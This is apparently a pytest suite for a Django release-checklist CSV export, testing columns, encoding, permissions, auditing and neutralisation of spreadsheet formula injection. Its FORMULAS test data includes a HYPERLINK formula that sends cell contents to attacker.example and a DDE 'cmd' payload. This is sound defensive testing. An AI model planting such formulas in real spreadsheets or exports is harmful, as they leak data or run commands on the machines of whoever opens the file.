"""The release's items as CSV (checklist.csv_export, admin release export/csv/): columns as the
checklist names them, UTF-8 with a BOM, every formula-like cell neutralised (OWASP CSV
injection), the same object permission as the other exports, and audited."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from checklist.csv_export import COLUMNS, csv_cell, release_items_csv
from checklist.models_audit import AuditEvent
from signoffs.choices import MemberRole
from signoffs.services import member_set, release_access_refresh
from tests.factories import ItemFactory, ReleaseFactory, SectionFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
UNICODE = "Проверка выпуска — Έλεγχος — Café ✅ 🟡"


@pytest.fixture
def release(db):
    pm = UserFactory(username="pm", staff=True, first_name="Priya", last_name="Manager")
    release = ReleaseFactory(owner=pm, name="Release 2")
    release_access_refresh(release=release, user=pm)
    tasks = SectionFactory(release=release, number="1", title="Tasks", order=1)
    perf = SectionFactory(release=release, number="2", title="Performance", order=2)
    group = ItemFactory(section=tasks, kind="group", text="Backend", order=1)
    ItemFactory(
        section=tasks,
        parent=group,
        task=True,
        key="DCMMS-141",
        text="Write the runbook",
        status="complete",
        owner=pm,
        due_date=datetime.date(2026, 12, 1),
        evidence_link="https://ci.example/runbook",
        evidence_note="Reviewed",
        order=2,
    )
    ItemFactory(section=perf, failing=True, text="p95 latency", owner_label="QA Lead", order=3)
    ItemFactory(section=perf, metric=True, text="Error rate", actual_value=Decimal("150"), order=4)
    return release


def _url(release, fmt="csv"):
    return reverse("admin:checklist_release_export", args=[release.pk, fmt])


def _rows(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # BOM: spreadsheet apps read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_csv_export_lists_every_item_with_the_checklist_columns_when_the_pm_downloads(
    client, release
):
    client.force_login(release.owner)
    response = client.get(_url(release))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="release-{release.pk}.csv"'
    header, *rows = _rows(response.content)
    assert tuple(header) == COLUMNS
    assert [dict(zip(header, row, strict=True)) for row in rows] == [
        {
            **dict.fromkeys(COLUMNS, ""),
            "Section": "1",
            "Section title": "Tasks",
            "Level": "1",
            "Item": "Backend",
            "Kind": "Group",
            "Status": "Not started",
        },
        {
            **dict.fromkeys(COLUMNS, ""),
            "Section": "1",
            "Section title": "Tasks",
            "Level": "2",
            "Key": "DCMMS-141",
            "Item": "Write the runbook",
            "Kind": "Task",
            "Status": "Complete",
            "Owner": "Priya Manager",
            "Due": "2026-12-01",
            "Story points": "5",
            "Evidence link": "https://ci.example/runbook",
            "Evidence note": "Reviewed",
        },
        {
            **dict.fromkeys(COLUMNS, ""),
            "Section": "2",
            "Section title": "Performance",
            "Level": "1",
            "Item": "p95 latency",
            "Kind": "Metric",
            "Status": "Not started",
            "Owner": "QA Lead",
            "Target": "< 200 ms",
            "Actual": "350 ms",
            "Target met": "no",
        },
        {
            **dict.fromkeys(COLUMNS, ""),
            "Section": "2",
            "Section title": "Performance",
            "Level": "1",
            "Item": "Error rate",
            "Kind": "Metric",
            "Status": "Not started",
            "Target": "< 200 ms",
            "Actual": "150",
            "Target met": "yes",
        },
    ]


def test_csv_export_neutralises_every_formula_cell_when_user_text_starts_like_one(client, release):
    section = release.sections.get(number="2")
    for text in FORMULAS:
        ItemFactory(
            section=section,
            text=text,
            owner_label="@owner",
            evidence_note="=1+1",
            note="-5",
            actual_text="+1",
        )
    client.force_login(release.owner)
    header, *rows = _rows(client.get(_url(release)).content)
    by_item = {row[header.index("Item")]: dict(zip(header, row, strict=True)) for row in rows}
    for text in FORMULAS:
        row = by_item["'" + text]  # the cell kept whole, with a quote in front
        assert row["Owner"] == "'@owner" and row["Evidence note"] == "'=1+1"
        assert row["Note"] == "'-5" and row["Actual"] == "'+1"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'quoted", "'quoted"),
        (None, ""),
        (5, "5"),
        (Decimal("-2.5"), "'-2.5"),
    ],
)
def test_csv_cell_prefixes_a_quote_only_when_a_spreadsheet_would_run_the_cell(value, cell):
    assert csv_cell(value) == cell


def test_csv_export_keeps_unicode_and_quotes_commas_and_line_breaks_when_present(client, release):
    text = f'{UNICODE}, "quoted"\nsecond line'
    ItemFactory(section=release.sections.get(number="2"), text=text, owner_label="Ølaf, Ops")
    client.force_login(release.owner)
    header, *rows = _rows(client.get(_url(release)).content)
    row = dict(zip(header, rows[-1], strict=True))
    assert (row["Item"], row["Owner"]) == (text, "Ølaf, Ops")


def test_csv_export_answers_404_and_records_nothing_when_release_not_granted(client, release):
    client.force_login(UserFactory(staff=True))
    assert client.get(_url(release)).status_code == 404
    assert not AuditEvent.objects.filter(kind="record_download").exists()


def test_csv_export_is_allowed_and_audited_when_an_auditor_downloads(client, release):
    auditor = UserFactory(staff=True)
    member_set(release=release, user=auditor, role=MemberRole.AUDITOR, by=release.owner)
    client.force_login(auditor)
    response = client.get(_url(release))
    assert response.status_code == 200
    event = AuditEvent.objects.get(kind="record_download")
    assert (event.actor, event.release_id, event.detail["format"]) == (auditor, release.pk, "csv")


def test_release_page_offers_the_csv_export_beside_json_and_markdown_when_viewed(client, release):
    client.force_login(release.owner)
    body = client.get(reverse("admin:checklist_release_change", args=[release.pk])).content
    body = body.decode()
    for fmt in ("json", "md", "csv"):
        assert _url(release, fmt) in body
    assert "Export CSV (items)" in body


def test_csv_export_reads_in_constant_queries_when_the_release_grows(
    release, django_assert_max_num_queries
):
    with django_assert_max_num_queries(2) as small:
        release_items_csv(release)
    section = release.sections.get(number="2")
    for n in range(40):
        ItemFactory(section=section, text=f"Item {n}", owner=release.owner)
    with django_assert_max_num_queries(len(small.captured_queries)):
        assert release_items_csv(release).count("Item ") == 40
